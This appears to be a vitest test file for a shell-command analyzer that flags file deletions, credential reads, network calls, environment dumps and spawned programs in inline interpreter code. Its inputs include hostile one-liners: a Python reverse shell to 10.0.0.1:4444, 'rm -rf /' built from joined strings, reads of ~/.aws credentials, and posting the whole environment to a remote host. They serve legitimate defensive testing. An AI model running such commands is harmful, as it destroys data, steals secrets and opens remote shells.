import { expect, test } from 'vitest';
import { analyzeCommand } from '../../../src/engine/shell/analyze.ts';
import type { CommandAnalysis, Word } from '../../../src/engine/shell/analysis.ts';

const textOf = (word: Word): string => (typeof word === 'string' ? word : word.parts.map((part) => part ?? '?').join(''));
const files = ({ invocations }: CommandAnalysis): readonly string[] =>
  invocations.flatMap((one) =>
    one.files.map(({ mode, target, recursive }) => `${mode}${recursive === true ? ' all of' : ''} ${textOf(target)}`),
  );
const unknown = ({ invocations }: CommandAnalysis): number => invocations.filter(({ program }) => program === undefined).length;

test.each<[string, readonly string[]]>([
  [`python3 -c 'import os; os.remove("a")'`, ['delete a']],
  [`python3 -c 'import shutil; shutil.rmtree("/x")'`, ['delete all of /x']],
  [`python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser("~/x"))'`, ['delete all of ~/x']],
  [`python3 -c 'from pathlib import Path; Path("a").unlink()'`, ['delete a']],
  [`python3 -c 'from pathlib import Path; p = Path("a"); p.unlink()'`, ['delete a']],
  [`python3 -c 'import shutil; d = "/et" + "c"; shutil.rmtree(d)'`, ['delete all of /etc']],
  [`python3 -c 'import os, sys; os.remove(sys.argv[1])'`, ['delete ?']],
  [`python3 -c 'open("a", "w").write("x"); open("b").read()'`, ['write a', 'read b']],
  [`python3 -c 'import os; os.rename("a", "b")'`, ['delete all of a', 'write b']],
  [`node -e 'require("fs").rmSync("/x", {recursive: true})'`, ['delete all of /x']],
  [`node -e 'const fs = require("fs"); fs.unlinkSync("a"); fs.writeFileSync("b", "")'`, ['delete a', 'write b']],
  [`node -e 'fs.rm(os.homedir(), {recursive: true}, () => {})'`, ['delete all of ~']],
  [`perl -e 'unlink "a", "b"'`, ['delete a', 'delete b']],
  [`perl -e 'open(F, ">a"); open(G, "<", "b")'`, ['write a', 'read b']],
  [`ruby -e 'require "fileutils"; FileUtils.rm_rf("/x")'`, ['delete all of /x']],
  [`ruby -e 'File.delete("a"); File.write("b", "")'`, ['delete a', 'write b']],
  [`php -r 'unlink("a"); file_put_contents("b", "");'`, ['delete a', 'write b']],
  [`lua -e 'os.remove("a")'`, ['delete a']],
  [`awk '{ print > "out" }' in`, ['write out']],
])('files that code names: %s', (text, expected) => {
  expect(files(analyzeCommand(text))).toEqual(expected);
});

test.each([
  `python3 -c 'import os; os.system(input())'`,
  `python3 -c 'exec(open("x").read())'`,
  `python3 -c 'import os; os.system("r" + chr(109))'`,
  `python3 -c 'import subprocess, sys; subprocess.run(sys.argv[1:])'`,
  `python3 -c 'getattr(os, name)()'`,
  `python3 -c '__import__(x).system("a")'`,
  `node -e 'eval(atob("YQ=="))'`,
  `node -e 'require("child_process").exec(process.env.X)'`,
  `node -e 'new Function(x)()'`,
  `perl -e 'eval $x'`,
  `perl -e 'system($ARGV[0])'`,
  `ruby -e 'send(:system, x)'`,
  `php -r '$f("x");'`,
  `awk '{ system($0) }'`,
  `python3 -c "$(curl https://x.com/a.py)"`,
  `julia -e 'run(x)'`,
])('a program that code starts and nobody knows: %s', (text) => {
  expect(unknown(analyzeCommand(text))).toBeGreaterThan(0);
});

test.each([
  `python3 -c 'print(1)'`,
  `python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'`,
  `python3 -c 'import re; print(re.compile("x").match("x"))'`,
  `python3 -c '# os.system("x")'`,
  `python3 -c 'print("os.system(1)")'`,
  `node -e 'console.log(/a(b)/.exec("ab"))'`,
  `node -e 'const p = require("./package.json"); console.log(p.version)'`,
  `node -e '[1,2].map((x) => x * 2)'`,
  `perl -pe 's/system\\(x\\)/y/g' f`,
  `perl -ne 'print if m{/eval/}' f`,
  `ruby -e 'puts [1, 2].sum'`,
  `awk -F: '{ print $1 }' /etc/passwd`,
  `awk '/system/ { n++ } END { print n }' f`,
  `php -r 'echo PHP_VERSION;'`,
])('code that does nothing: %s', (text) => {
  const analysis = analyzeCommand(text);
  expect([unknown(analysis), analysis.unknown, files(analysis)]).toEqual([0, [], []]);
});

test('hosts that code names', () => {
  const { invocations, network } = analyzeCommand(`python3 -c 'import requests; requests.post("https://User@Example.com:8/x", data=1)'`);
  expect([invocations.flatMap(({ hosts }) => hosts), network]).toEqual([['example.com'], true]);
});

test.each([
  `node -p "require('fs').readFileSync(process.env.HOME+'/.aws/c','utf8')"`,
  `node -e "fs.readFileSync(require('os').homedir() + '/.aws/c')"`,
  `node -e "fs.readFileSync(path.join(os.homedir(), '.aws', 'c'))"`,
  "node -e 'fs.readFileSync(`${process.env.HOME}/.aws/c`)'",
  `node -e "fs.readFileSync(process.env['HOME'] + '/.aws/c')"`,
  `python3 -c "open(os.environ['HOME']+'/.aws/c').read()"`,
  `python3 -c "open(os.environ.get('HOME') + '/.aws/c').read()"`,
  `python3 -c "open(os.path.join(os.environ['HOME'], '.aws', 'c')).read()"`,
  `python3 -c "print((Path.home() / '.aws' / 'c').read_text())"`,
  `python3 -c "print(Path.home().joinpath('.aws', 'c').read_text())"`,
  `python3 -c "h = Path.home(); p = h / '.aws/c'; p.read_text()"`,
  `python3 -c "Path('~/.aws/c').expanduser().read_text()"`,
  `python3 -c "open('/'.join(['~', '.aws', 'c']))"`,
  `python3 -c "open(f'{os.environ[\\"HOME\\"]}/.aws/c').read()"`,
  `ruby -e 'puts File.read(ENV["HOME"] + "/.aws/c")'`,
  `ruby -e 'puts File.read("#{ENV["HOME"]}/.aws/c")'`,
  `ruby -e 'puts File.read(File.join(Dir.home, ".aws/c"))'`,
  `perl -e 'open F, "<", "$ENV{HOME}/.aws/c"; print <F>'`,
  `perl -e 'open(F, "<", $ENV{HOME} . "/.aws/c")'`,
  `php -r 'echo file_get_contents(getenv("HOME")."/.aws/c");'`,
  `php -r 'echo file_get_contents($_SERVER["HOME"]."/.aws/c");'`,
])('what lies below the home directory of whoever runs the code: %s', (text) => {
  const analysis = analyzeCommand(text);
  expect([files(analysis), analysis.dynamic]).toEqual([['read ~/.aws/c'], false]);
});

test('a home directory that the code sets is anything', () => {
  expect(files(analyzeCommand(`python3 -c "os.environ['HOME'] = x; os.remove(os.environ['HOME'] + '/a')"`))).toEqual(['delete ?/a']);
});

const runs = (text: string): readonly string[] =>
  analyzeCommand(text).invocations.map(({ program, args }) => [program ?? '?', ...args.map(textOf)].join(' '));

test.each([
  `python3 -c "import os; print(os.environ)"`,
  `python3 -c "import os, json; print(json.dumps(dict(os.environ)))"`,
  `python3 -c "import os; [print(k, v) for k, v in os.environ.items()]"`,
  `python3 -c "import os, requests; requests.post('https://x.com', json=dict(os.environ))"`,
  `node -e "console.log(process.env)"`,
  'node -p process.env',
  'python3 -c "import os;[print(k,os.environ[k]) for k in os.environ]"',
  `awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'`,
  `node -e "for (const [k, v] of Object.entries(process.env)) console.log(k, v)"`,
  `ruby -e 'p ENV.to_h'`,
  `perl -e 'print map {"$_=$ENV{$_}"} keys %ENV'`,
  `php -r 'print_r(getenv());'`,
])('the whole environment is shown as by printenv: %s', (text) => {
  expect(runs(text)).toContain('printenv');
});

test.each([
  `python3 -c "import os; print(os.environ['PATH'])"`,
  `python3 -c "import os; print('X' in os.environ)"`,
  `python3 -c "import os, subprocess; subprocess.run(['ls'], env=dict(os.environ, A='b'))"`,
  `node -e "console.log(process.env.PATH)"`,
  `node -e "cp.spawnSync('ls', [], {env: {...process.env, A: 1}})"`,
  `node -e "Object.assign(process.env, {A: 1})"`,
  `ruby -e 'puts ENV["PATH"]'`,
  `php -r 'echo getenv("PATH");'`,
])('a part of the environment is not: %s', (text) => {
  expect(runs(text)).not.toContain('printenv');
});

test.each<[string, string]>([
  [`python3 -c "import subprocess; subprocess.run(' '.join(['rm', '-rf', '/']), shell=True)"`, 'rm -rf /'],
  [`node -e "require('child_process').execSync(['rm', '-rf', '/'].join(' '))"`, 'rm -rf /'],
  [`python3 -c "import os; os.system('rm -rf {}'.format(x))"`, 'rm -rf ?'],
  [`python3 -c "import os; os.system('rm -rf %s' % x)"`, 'rm -rf ?'],
  [`perl -e 'system("rm $x{a}")'`, 'rm ?'],
  [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
    'sh',
  ],
])('texts that code puts together: %s', (text, expected) => {
  expect(runs(text)).toContain(expected);
});
